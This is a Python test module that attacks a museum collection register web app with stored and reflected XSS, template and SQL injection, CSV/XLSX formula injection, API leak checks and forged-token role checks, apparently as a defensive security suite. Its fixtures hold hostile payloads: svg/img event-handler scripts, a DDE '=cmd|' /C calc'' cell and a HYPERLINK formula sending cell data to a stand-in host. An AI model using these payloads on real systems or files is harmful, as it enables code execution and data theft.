"""Issue 12: the attack suite of the museum's register, end to end.

setup_module plants hostile text (script tags, event handlers, template
syntax, SQL, and cells a spreadsheet would run as formulas) through every text
field a person can type in the register: intake (name, donor, hand-over
number, dating, origin, description, notes), the Scientific Council (members,
minutes, a decision's note), a correction (other names, technique, material
note, reason), a storage place (name, code, a rename), a move (who, note), a
condition check (who, note), an inventory campaign (name, a finding's note),
an acquisition typed on its own page (hand-over number, giver, receiver, note
and a new source's name) with an object taken in into it, that object's edit
page (material note, technique, notes, a related entity), a picture uploaded
from its photos page (alt text, credit), and imported CSV and XLSX files
(cells and file names). Then:

1. every back-office page that shows it is parsed: no payload runs, template
   syntax stays text, each payload is shown (escaped), so the checks see it;
2. the import's problem table, for hostile CSV and XLSX files;
3. the CSV and XLSX exports: no cell a spreadsheet would compute (= + - @,
   tab, CR first) and no XLSX formula;
4. the API: public objects only, hostile text as JSON strings, and never what
   the museum keeps to itself (donor and contact details, value, storage
   place, notes);
5. reflected XSS and SQL through the register's query parameters;
6. every role on the acquisition, source, edit and photo-upload URLs, with
   hostile forged posts: the right answer for the role, nothing written.
Who may use each register URL is test_register_roles.py's."""
import csv
import html as htmllib
import io
import json
import re
import urllib.parse
import zipfile
from xml.sax.saxutils import escape as xml_escape

from admin_client import accounts_module, csrf_of
from register_users import intake, one, set_public
from test_media import png
from test_attacks_admin import (SQL_PAYLOADS, assert_admin_headers, assert_inert, esc, evil,
                                no_5xx)
from test_register_correction import form_of
from test_register_roles import PASSWORDS, ROLES   # every role's account


_setup, teardown_module, browser = accounts_module(PASSWORDS, ROLES)


def short(n):
    """A payload for the short fields (hand-over number, place codes)."""
    return f'"><svg onload=alert({n})>'


def file_name(n, ext):
    """A hostile file name (a browser sends a '"' of a name as %22)."""
    return f"xss-'><svg onload=alert({n})><img src=x onerror=alert({n})>.{ext}"


# Cells a spreadsheet would compute: each field that leads with one of these is
# checked in the exports.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
INTAKE = {
    "name": evil(1),
    "donor": "@" + evil(2),
    "handover_no": "=1+1" + short(3),
    "dating": "-" + evil(4),
    "origin_place": "+" + evil(5),
    "description": '=HYPERLINK("http://x.invalid/?"&A1,"' + evil(6) + '")',
    "notes": "=cmd|' /C calc'!A0 " + evil(7),
}
COUNCIL = {"members": evil(10), "minutes": evil(11)}
DECISION_NOTE = evil(12)
RETURNED_NAME = evil(13)
CORRECTION = {"other_names": "=" + evil(14), "technique": evil(15), "material_note": evil(16)}
CORRECTION_WHY = evil(17)
PLACE_NAME, PLACE_CODE, PLACE_RENAMED = evil(18), short(19), evil(20)
MOVE = {"who": evil(21), "note": evil(22)}
CONDITION = {"checked_by": evil(23), "note": evil(24)}
CAMPAIGN, FINDING_NOTE = evil(25), evil(26)
CSV_NAME, CSV_OTHER, CSV_FILE = evil(27), "+" + evil(28), file_name(29, "csv")
XLSX_NAME, XLSX_OTHER, XLSX_FILE = evil(30), "@" + evil(31), file_name(32, "xlsx")
DONOR = {"kind": "person", "name": evil(50), "address": evil(51), "phone": short(52),
         "email": f'x"><svg/onload=alert(53)>@e.vn', "note": evil(54), "same_name_ok": ""}
ACQ = {"mode": "mua", "acquired_on": "12/05/2021", "donor_id": "", "donor_name": evil(60),
       "donor_kind": "organisation", "handover_no": short(61), "giver": evil(62),
       "receiver": "=" + evil(63), "value": "1.500.000", "note": "@" + evil(64)}
ACQ_OBJECT = evil(65)
EDIT = {"material_note": evil(66), "technique": "+" + evil(67), "notes": "=" + evil(68),
        "related_kind": "event", "related_name": "-" + evil(69)}
PHOTO = {"alt": evil(70), "credit": evil(71)}
# What the museum keeps to itself, planted on the public object's donor and card.
SECRET_PHONE, SECRET_MAIL, SECRET_ADDRESS, SECRET_VALUE = "0912 345 678", "rieng.tu.xss@example.vn", \
    "Số 7 ngõ Bí Mật, Mường Thanh", 987654321

IMPORT_PATH = "/admin/so-dang-ky/nhap-tep"
HEADER = ["Tên hiện vật", "Tên khác", "Chất liệu", "Phương thức thu nhận", "Ngày thu nhận",
          "Người/đơn vị giao", "Mô tả"]


# ---- planting ------------------------------------------------------------------------

def post_form(b, page, action, fields, want=303):
    """Posts the form of page that goes to action; the reply must be want."""
    r = b.get(page)
    assert r.status == 200, (page, r.status)
    r = b.post(action, dict(fields, csrf=csrf_of(r.text, action)))
    assert r.status == want, (action, r.status, re.findall(r'role="alert">([^<]*)', r.text))
    return r


def object_id(s, name):
    (oid,) = one(s, "SELECT id FROM objects WHERE name = ?", name)
    return oid


def csv_file(rows):
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8-sig")


def xlsx_file(rows):
    """A minimal XLSX as Excel writes it: shared strings and one worksheet."""
    strings, cells = [], []
    for r, row in enumerate(rows, 1):
        refs = []
        for c, value in enumerate(row):
            strings.append(value)
            refs.append(f'<c r="{chr(65 + c)}{r}" t="s"><v>{len(strings) - 1}</v></c>')
        cells.append(f'<row r="{r}">{"".join(refs)}</row>')
    shared = "".join(f'<si><t xml:space="preserve">{xml_escape(v)}</t></si>' for v in strings)
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/sharedStrings.xml", f'<?xml version="1.0" encoding="UTF-8"?><sst {ns} '
                   f'count="{len(strings)}" uniqueCount="{len(strings)}">{shared}</sst>')
        z.writestr("xl/worksheets/sheet1.xml", f'<?xml version="1.0" encoding="UTF-8"?><worksheet {ns}>'
                   f'<sheetData>{"".join(cells)}</sheetData></worksheet>')
    return out.getvalue()


def upload(b, name, data, kind):
    token = csrf_of(b.get(IMPORT_PATH).text, IMPORT_PATH)
    return b.upload(IMPORT_PATH, {"csrf": token}, [("file", name, kind, data)])


def problems(r):
    """The import's problem table (FILE:ROW:COLUMN: reason)."""
    return [htmllib.unescape(t) for t in re.findall(r'<tr title="([^"]*)"', r.text)] or \
        htmllib.unescape(" ".join(re.findall(r'role="alert">([^<]*)', r.text))) or r.text[-1500:]


def plant_intake_and_council(s):
    curator, council = browser(s, "baotang"), browser(s, "hoidong")
    r = intake(curator, INTAKE["name"], **{k: v for k, v in INTAKE.items() if k != "name"})
    assert r.status == 303, re.findall(r'role="alert">([^<]*)', r.text)
    s.obj = object_id(s, INTAKE["name"])
    (s.acquisition,) = one(s, "SELECT acquisition_id FROM objects WHERE id = ?", s.obj)
    assert intake(curator, RETURNED_NAME).status == 303
    s.returned = object_id(s, RETURNED_NAME)
    r = post_form(council, "/admin/so-dang-ky/hoi-dong/moi", "/admin/so-dang-ky/hoi-dong/moi",
                  dict(COUNCIL, held_on="15/05/2021", minutes_media_id=""))
    s.session = int(re.search(r"/hoi-dong/(\d+)", r.header("location")).group(1))
    (main,) = one(s, "SELECT id FROM registers WHERE collection = 'main' ORDER BY id LIMIT 1")
    path = f"/admin/so-dang-ky/hoi-dong/{s.session}"
    post_form(council, path, f"{path}/quyet-dinh", {"object_id": str(s.obj), "decision": "main",
                                                   "register_id": str(main), "note": DECISION_NOTE})
    post_form(council, path, f"{path}/quyet-dinh", {"object_id": str(s.returned), "decision": "returned",
                                                   "register_id": "", "note": DECISION_NOTE})


def plant_card(s):
    curator = browser(s, "baotang")
    path = f"/admin/so-dang-ky/{s.obj}/dinh-chinh"
    page = curator.get(path)
    assert page.status == 200, page.status
    form = dict(form_of(page.text), **CORRECTION)
    post_form(curator, path, path, dict(form, why=CORRECTION_WHY))
    (shelf,) = one(s, "SELECT id FROM locations WHERE name = 'Giá A'")
    post_form(curator, "/admin/kho", "/admin/kho/them", {"kind": "box", "parent_id": str(shelf),
                                                        "name": PLACE_NAME, "code": PLACE_CODE,
                                                        "store_kind": ""})
    s.place = one(s, "SELECT id FROM locations WHERE name = ?", PLACE_NAME)[0]
    post_form(curator, "/admin/kho", "/admin/kho/them", {"kind": "box", "parent_id": str(shelf),
                                                        "name": "Hộp sẽ đổi tên", "code": "",
                                                        "store_kind": ""})
    (renamed,) = one(s, "SELECT id FROM locations WHERE name = 'Hộp sẽ đổi tên'")
    post_form(curator, "/admin/kho", f"/admin/kho/{renamed}/doi-ten", {"name": PLACE_RENAMED, "code": ""})
    move = f"/admin/so-dang-ky/{s.obj}/di-chuyen"
    post_form(curator, move, move, dict(MOVE, moved_on="02/03/2025", to_location_id=str(s.place),
                                        reason="bao_quan"))
    care = f"/admin/so-dang-ky/{s.obj}/tinh-trang"
    post_form(curator, care, care, dict(CONDITION, checked_on="03/03/2025", state="kem"))
    (store,) = one(s, "SELECT id FROM locations WHERE name = 'Kho chính'")
    r = post_form(curator, "/admin/kiem-ke", "/admin/kiem-ke/them",
                  {"name": CAMPAIGN, "started_on": "01/12/2026", "root_location_id": str(store)})
    s.campaign = int(r.header("location").rsplit("/", 1)[1])
    page = f"/admin/kiem-ke/{s.campaign}"
    post_form(curator, page, f"{page}/danh-dau", {"object_id": str(s.obj), "state": "damaged",
                                                  "seen_location_id": "", "note": FINDING_NOTE})


def plant_files(s):
    curator = browser(s, "baotang")
    row = ["KL", "hiến tặng", "07/05/2020", "", ""]
    r = upload(curator, CSV_FILE, csv_file([HEADER, [CSV_NAME, CSV_OTHER] + row]), "text/csv")
    assert r.status == 200, problems(r)
    r = upload(curator, XLSX_FILE, xlsx_file([HEADER, [XLSX_NAME, XLSX_OTHER] + row]),
               "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert r.status == 200, problems(r)
    s.csv_obj, s.xlsx_obj = object_id(s, CSV_NAME), object_id(s, XLSX_NAME)


def plant_donor(s):
    curator = browser(s, "baotang")
    r = post_form(curator, "/admin/so-dang-ky/nguon/them", "/admin/so-dang-ky/nguon/them", DONOR)
    s.donor = int(re.search(r"/nguon/(\d+)", r.header("location")).group(1))


def plant_acquisition(s):
    """An acquisition typed on its page (a new source with it), an object
    taken in into it, that object's card edited, a picture uploaded onto it."""
    curator = browser(s, "baotang")
    new = "/admin/so-dang-ky/thu-nhan/them"
    r = post_form(curator, new, new, ACQ)
    s.acq = int(re.search(r"/thu-nhan/(\d+)", r.header("location")).group(1))
    (s.acq_donor,) = one(s, "SELECT donor_id FROM acquisitions WHERE id = ?", s.acq)
    r = intake(curator, ACQ_OBJECT, acquisition_id=str(s.acq))
    assert r.status == 303, re.findall(r'role="alert">([^<]*)', r.text)
    s.acq_obj = object_id(s, ACQ_OBJECT)
    edit = f"/admin/so-dang-ky/{s.acq_obj}/sua"
    page = curator.get(edit)
    form = dict(form_of(page.text), kind="hien_vat", value="", public="", **EDIT)
    post_form(curator, edit, edit, form)
    photos = f"/admin/so-dang-ky/{s.acq_obj}/anh"
    token = csrf_of(curator.get(photos).text, photos + "/tai-len")
    r = curator.upload(photos + "/tai-len", dict(PHOTO, csrf=token),
                       [("file", file_name(72, "png"), "image/png", png(64, 48))])
    assert r.status == 303, re.findall(r'role="alert">([^<]*)', r.text)


def plant_secrets(s):
    """The hostile object goes public, with a value and a donor's contact details."""
    set_public(browser(s, "baotang"), s.obj, value=f"{SECRET_VALUE:,}".replace(",", "."))
    assert one(s, "SELECT public, value FROM objects WHERE id = ?", s.obj) == (1, SECRET_VALUE)
    with s.db() as c:
        c.execute("UPDATE donors SET phone = ?, email = ?, address = ? WHERE id = "
                  "(SELECT q.donor_id FROM objects o JOIN acquisitions q ON q.id = o.acquisition_id"
                  " WHERE o.id = ?)", (SECRET_PHONE, SECRET_MAIL, SECRET_ADDRESS, s.obj))
        assert c.execute("SELECT changes()").fetchone()[0] == 1


def setup_module(sen):
    s = _setup(sen)
    try:
        plant_intake_and_council(s)
        plant_card(s)
        plant_files(s)
        plant_donor(s)
        plant_acquisition(s)
        plant_secrets(s)
    except BaseException:
        s.close()
        raise
    return s


# ---- 1. stored XSS on the back office --------------------------------------------------

def fetch(b, path, status=200):
    r = b.get(path)
    no_5xx(r, path)
    assert r.status == status, (path, r.status, r.text[:400])
    assert_admin_headers(r, path)
    assert_inert(r.text, path)
    return r


def shown(text, payload, where):
    """The payload is on the page, escaped: else the checks prove nothing."""
    assert esc(payload) in text, (where, payload[:20])


def register_pages(s):
    """path -> the payloads it must show."""
    card = f"/admin/so-dang-ky/{s.obj}"
    return {
        "/admin/so-dang-ky": [INTAKE["name"], CSV_NAME, XLSX_NAME, RETURNED_NAME],
        "/admin/so-dang-ky?q=X27": [CSV_NAME],
        "/admin/so-dang-ky?trang-thai=main": [INTAKE["name"]],
        card: [INTAKE["name"], INTAKE["donor"], INTAKE["handover_no"], INTAKE["dating"],
               INTAKE["origin_place"], INTAKE["description"], INTAKE["notes"],
               CORRECTION["other_names"], CORRECTION["technique"], CORRECTION_WHY, PLACE_NAME,
               MOVE["who"]],
        f"/admin/so-dang-ky/{s.returned}": [RETURNED_NAME],
        # Printed books (print_page.c).
        "/admin/so-dang-ky/in": [INTAKE["name"], CSV_NAME, XLSX_NAME],
        "/admin/so-dang-ky/in?q=X1": [INTAKE["name"]],
        f"{card}/in": [INTAKE["name"], INTAKE["donor"], INTAKE["dating"], INTAKE["description"],
                       CORRECTION["other_names"], PLACE_NAME],
        f"/admin/so-dang-ky/{s.csv_obj}": [CSV_NAME, CSV_OTHER],
        f"/admin/so-dang-ky/{s.xlsx_obj}": [XLSX_NAME, XLSX_OTHER],
        f"{card}/dinh-chinh": [INTAKE["name"], *CORRECTION.values()],
        f"{card}/di-chuyen": [INTAKE["name"], PLACE_NAME, MOVE["who"], MOVE["note"]],
        f"{card}/tinh-trang": [INTAKE["name"], CONDITION["checked_by"], CONDITION["note"]],
        "/admin/so-dang-ky/hoi-dong": [],
        f"/admin/so-dang-ky/hoi-dong/{s.session}": [COUNCIL["members"], COUNCIL["minutes"], DECISION_NOTE,
                                                    INTAKE["name"], RETURNED_NAME],
        "/admin/kho": [PLACE_NAME, PLACE_CODE, PLACE_RENAMED],
        # Sources (donor_page.c).
        "/admin/so-dang-ky/nguon": [DONOR["name"], INTAKE["donor"]],
        "/admin/so-dang-ky/nguon?q=X50": [DONOR["name"]],
        "/admin/so-dang-ky/nguon/them": [],
        f"/admin/so-dang-ky/nguon/{s.donor}": [DONOR["name"], DONOR["address"], DONOR["phone"],
                                               DONOR["email"], DONOR["note"]],
        # Photos (photos page) and the other printed books.
        f"{card}/anh": [INTAKE["name"]],
        f"/admin/so-dang-ky/hoi-dong/{s.session}/in": [COUNCIL["members"], COUNCIL["minutes"],
                                                       DECISION_NOTE, INTAKE["name"]],
        f"/admin/kiem-ke/{s.campaign}/bao-cao": [CAMPAIGN, INTAKE["name"]],
        f"/admin/so-dang-ky/thu-nhan/{s.acquisition}/bien-ban": [INTAKE["name"], INTAKE["donor"],
                                                                 INTAKE["handover_no"]],
        "/admin/kiem-ke": [CAMPAIGN],
        # The finding's note is shown nowhere yet (the printed report will).
        f"/admin/kiem-ke/{s.campaign}": [CAMPAIGN, INTAKE["name"]],
        IMPORT_PATH: [],
        # Acquisitions (acquisition_page.c), the object taken in into one,
        # its edit page, photos and printed card.
        "/admin/so-dang-ky/thu-nhan": [ACQ["handover_no"], ACQ["donor_name"]],
        "/admin/so-dang-ky/thu-nhan?q=X62": [ACQ["handover_no"], ACQ["donor_name"]],
        "/admin/so-dang-ky/thu-nhan/them": [],
        f"/admin/so-dang-ky/thu-nhan/{s.acq}": [ACQ["handover_no"], ACQ["giver"], ACQ["receiver"],
                                                ACQ["note"], ACQ["donor_name"], ACQ_OBJECT],
        f"/admin/so-dang-ky/thu-nhan/{s.acq}/bien-ban": [ACQ["handover_no"], ACQ["giver"],
                                                         ACQ["receiver"], ACQ["donor_name"], ACQ_OBJECT],
        f"/admin/so-dang-ky/nhap?dot={s.acq}": [ACQ["handover_no"], ACQ["donor_name"]],
        f"/admin/so-dang-ky/nguon/{s.acq_donor}": [ACQ["donor_name"], ACQ["handover_no"]],
        f"/admin/so-dang-ky/{s.acq_obj}": [ACQ_OBJECT, ACQ["donor_name"], ACQ["handover_no"],
                                           EDIT["material_note"], EDIT["technique"], EDIT["notes"],
                                           EDIT["related_name"], PHOTO["alt"]],
        f"/admin/so-dang-ky/{s.acq_obj}/sua": [ACQ_OBJECT, EDIT["material_note"], EDIT["technique"],
                                               EDIT["notes"], EDIT["related_name"]],
        f"/admin/so-dang-ky/{s.acq_obj}/anh": [ACQ_OBJECT, PHOTO["alt"]],
        f"/admin/so-dang-ky/{s.acq_obj}/in": [ACQ_OBJECT, ACQ["donor_name"], EDIT["material_note"],
                                              EDIT["technique"], EDIT["notes"], EDIT["related_name"]],
        "/admin/so-dang-ky/mau-so": [],
        "/admin": [],
        "/admin/nhat-ky": [],
    }


def test_attacks_register_stored_xss_back_office(s):
    admin = browser(s, "quantri")
    for path, payloads in register_pages(s).items():
        text = fetch(admin, path).text
        for p in payloads:
            shown(text, p, path)
        # Template syntax typed by a person comes back as text, never expanded.
        if payloads:
            assert "{{t.admin_title}}" in htmllib.unescape(text), path
    # The council and the curator see the same pages through their own menus.
    for name in ("baotang", "hoidong"):
        for path in (f"/admin/so-dang-ky/{s.obj}", f"/admin/so-dang-ky/hoi-dong/{s.session}",
                     "/admin/kho", f"/admin/kiem-ke/{s.campaign}", "/admin/so-dang-ky"):
            fetch(browser(s, name), path)


# ---- 2. hostile files on the import page ------------------------------------------------

def test_attacks_register_import_problem_table(s):
    curator = browser(s, "baotang")
    (before,) = one(s, "SELECT count(*) FROM objects")
    # A row with a bad material and mode: the cell comes back in the problem table.
    bad = [HEADER, [evil(40), "=" + evil(41), evil(42), evil(43), "31/02/2020", evil(44), evil(45)]]
    for name, data, kind in (
            (file_name(46, "csv"), csv_file(bad), "text/csv"),
            (file_name(47, "xlsx"), xlsx_file(bad),
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
            (file_name(48, "xlsx"), b"PK\x03\x04" + evil(48).encode(), "application/octet-stream")):
        r = upload(curator, name, data, kind)
        no_5xx(r, name)
        assert r.status == 400, (name, r.status)
        assert_admin_headers(r, name)
        assert_inert(r.text, name)
        shown(r.text, name, name)
    assert one(s, "SELECT count(*) FROM objects") == (before,)


# ---- 3. exports --------------------------------------------------------------------------

def formula_like(cell):
    return cell[:1] in FORMULA_LEADS


def test_attacks_register_csv_export_neutralised(s):
    curator = browser(s, "baotang")
    for query in ("", "&q=X1", "&trang-thai=main"):
        r = curator.get("/admin/so-dang-ky/xuat?dinh-dang=csv" + query)
        assert r.status == 200, (query, r.status)
        assert r.header("content-type").startswith("text/csv")
        rows = list(csv.reader(io.StringIO(r.body.decode("utf-8-sig"), newline="")))
        cells = [c for row in rows for c in row]
        bad = [c[:40] for c in cells if formula_like(c)]
        assert bad == [], (query, bad)
        # Each formula-like field comes out as text led by an apostrophe.
        for field in ("donor", "handover_no", "dating", "origin_place", "description", "notes"):
            assert "'" + INTAKE[field] in cells, (query, field)
        assert "'" + CORRECTION["other_names"] in cells, query
        if not query:
            for text in (EDIT["technique"], EDIT["notes"]):
                assert "'" + text in cells, text[:20]
    r = curator.get("/admin/so-dang-ky/xuat?dinh-dang=csv")
    cells = [c for row in csv.reader(io.StringIO(r.body.decode("utf-8-sig"), newline="")) for c in row]
    assert "'" + CSV_OTHER in cells and "'" + XLSX_OTHER in cells
    # A value or contact detail the export has no column for stays out.
    assert SECRET_PHONE not in r.body.decode("utf-8-sig") and SECRET_MAIL not in r.body.decode("utf-8-sig")


def xlsx_strings(body):
    """Every text of the first worksheet (shared and inline), and its formulas."""
    z = zipfile.ZipFile(io.BytesIO(body))
    sheet = z.read("xl/worksheets/sheet1.xml").decode()
    parts = [sheet]
    if "xl/sharedStrings.xml" in z.namelist():
        parts.append(z.read("xl/sharedStrings.xml").decode())
    texts = [htmllib.unescape(t) for p in parts for t in re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", p, re.S)]
    return texts, re.findall(r"<f[ >]", sheet)


def test_attacks_register_xlsx_export_neutralised(s):
    curator = browser(s, "baotang")
    for query in ("", "&q=X1"):
        r = curator.get("/admin/so-dang-ky/xuat?dinh-dang=xlsx" + query)
        assert r.status == 200 and "spreadsheetml" in r.header("content-type"), (query, r.status)
        texts, formulas = xlsx_strings(r.body)
        assert formulas == [], query
        bad = [t[:40] for t in texts if formula_like(t)]
        assert bad == [], (query, bad)
        for field in ("donor", "handover_no", "dating", "origin_place", "description", "notes"):
            assert "'" + INTAKE[field] in texts, (query, field)
        assert INTAKE["name"] in texts, query
        if not query:
            for text in (EDIT["technique"], EDIT["notes"]):
                assert "'" + text in texts, text[:20]


# ---- 4. the API ---------------------------------------------------------------------------

LIST_KEYS = {"id", "reg_number", "name", "kind", "material_code"}
INTERNAL = ("value", "notes", "location", "location_id", "donor", "donor_id", "acquisition_id",
            "public", "phone", "email", "address", "handover_no", "status", "log_head", "intake_no")


def test_attacks_register_api(s):
    r = s.get(f"/api/v1/objects/{s.obj}")
    assert r.status == 200, r.status
    assert r.header("content-type") == "application/json; charset=utf-8"
    assert r.header("x-content-type-options") == "nosniff"
    body = r.body.decode()
    j = json.loads(body)
    assert j["name"] == INTAKE["name"] and j["description"] == INTAKE["description"]
    for k in INTERNAL:
        assert k not in j, k
    # Nothing the museum keeps to itself, under any key.
    for secret in (SECRET_PHONE, SECRET_MAIL, SECRET_ADDRESS, str(SECRET_VALUE), INTAKE["notes"],
                   INTAKE["donor"], INTAKE["handover_no"], PLACE_NAME, MOVE["who"], CONDITION["note"],
                   FINDING_NOTE, DECISION_NOTE, CORRECTION_WHY, DONOR["address"], DONOR["note"]):
        assert json.dumps(secret)[1:-1] not in body and secret not in body, secret[:20]
    # The list: public objects only, the same few keys.
    seen, after = [], None
    for _ in range(100):
        r = s.get("/api/v1/objects" + (f"?after={after}" if after else ""))
        assert r.status == 200
        page = r.json()
        for item in page["items"]:
            assert set(item) == LIST_KEYS, item
            seen.append(item["id"])
        after = page["next"]
        if after is None:
            break
    assert s.obj in seen
    with s.db() as c:
        public = {row[0] for row in c.execute("SELECT id FROM objects WHERE public = 1")}
    assert set(seen) == public
    for oid in (s.returned, s.csv_obj, s.xlsx_obj):
        assert oid not in seen
        r = s.get(f"/api/v1/objects/{oid}")
        assert r.status == 404 and r.json()["error"] == "not_found", oid
    # Search for a hostile word: plain JSON.
    r = s.get("/api/v1/objects?q=X1")
    assert r.status == 200 and [i["name"] for i in r.json()["items"]] == [INTAKE["name"]]
    # Writes are not part of the API.
    for method in ("POST", "PUT", "DELETE", "PATCH"):
        r = s.request(method, f"/api/v1/objects/{s.obj}", body={"name": "x"})
        assert r.status in (404, 405), (method, r.status)
    assert one(s, "SELECT name FROM objects WHERE id = ?", s.obj) == (INTAKE["name"],)


# ---- 5. reflected XSS and SQL in query parameters ------------------------------------------

REFLECT = '"><script>alert("r1")</script><svg onload=alert(2)>\'{{t.admin_title}}'
PARAMS = ("q", "trang-thai", "chat-lieu", "truoc", "ok", "hv", "dinh-dang")


def test_attacks_register_reflected_and_sql(s):
    admin = browser(s, "quantri")
    pages = [p for p in register_pages(s) if "?" not in p and p not in ("/admin", "/admin/nhat-ky")]
    pages.append("/admin/so-dang-ky/xuat")
    (before,) = one(s, "SELECT count(*) FROM objects")
    for path in pages:
        for value in [REFLECT] + SQL_PAYLOADS:
            q = urllib.parse.quote(value, safe="")
            url = path + "?" + "&".join(f"{p}={q}" for p in PARAMS)
            r = admin.get(url)
            no_5xx(r, url)
            if (r.header("content-type") or "").startswith("text/html"):
                assert_inert(r.text, url)
    # Ids that are not ids.
    for value in SQL_PAYLOADS:
        q = urllib.parse.quote(value, safe="")
        for path in (f"/admin/so-dang-ky/{q}", f"/admin/so-dang-ky/hoi-dong/{q}", f"/admin/kiem-ke/{q}",
                     f"/admin/so-dang-ky/{q}/tinh-trang", f"/api/v1/objects/{q}"):
            r = admin.get(path)
            no_5xx(r, path)
            assert r.status in (400, 404), (path, r.status)
    assert one(s, "SELECT count(*) FROM objects") == (before,)
    with s.db() as c:
        assert c.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    r = s.run("register", "verify", "--data", s.data)
    assert r.returncode == 0, r.stdout + r.stderr


# ---- 6. every role on the acquisition, source, edit and upload URLs -----------------------

def test_attacks_register_roles_on_new_pages(s):
    """GET as every role answers as the role may; a hostile post with a forged
    token, or from a role that may not write, is refused and writes nothing."""
    readers, keepers = {"quantri", "baotang", "hoidong"}, {"quantri", "baotang"}
    obj = s.acq_obj
    pages = {"/admin/so-dang-ky/thu-nhan": readers, "/admin/so-dang-ky/thu-nhan/them": keepers,
             f"/admin/so-dang-ky/thu-nhan/{s.acq}": readers, "/admin/so-dang-ky/nguon": readers,
             "/admin/so-dang-ky/nguon/them": keepers, f"/admin/so-dang-ky/nguon/{s.acq_donor}": readers,
             f"/admin/so-dang-ky/{obj}/sua": keepers, f"/admin/so-dang-ky/{obj}/anh": keepers}
    posts = {"/admin/so-dang-ky/thu-nhan/them": ACQ, f"/admin/so-dang-ky/thu-nhan/{s.acq}": ACQ,
             "/admin/so-dang-ky/nguon/them": DONOR, f"/admin/so-dang-ky/nguon/{s.acq_donor}": DONOR,
             f"/admin/so-dang-ky/{obj}/sua": dict(EDIT, name=evil(80))}

    def state():
        return [one(s, f"SELECT count(*), ifnull(max(updated_at), 0) FROM {t}")
                if t == "objects" else one(s, f"SELECT count(*) FROM {t}")
                for t in ("objects", "acquisitions", "donors", "related_entities", "media")]

    before = state()
    for name in ROLES:
        b = browser(s, name)
        for path, allowed in pages.items():
            r = b.get(path)
            no_5xx(r, path)
            assert r.status == (200 if name in allowed else 403), (name, path, r.status)
            if r.status == 200:
                assert_admin_headers(r, path)
                assert_inert(r.text, path)
        for path, fields in posts.items():
            r = b.post(path, dict(fields, csrf="0" * 64))
            no_5xx(r, path)
            assert r.status == 403, (name, path, r.status)
        up = f"/admin/so-dang-ky/{obj}/anh/tai-len"
        r = b.upload(up, dict(PHOTO, csrf="0" * 64), [("file", "x.png", "image/png", png(32, 24))])
        no_5xx(r, up)
        assert r.status == 403, (name, up, r.status)
    assert state() == before
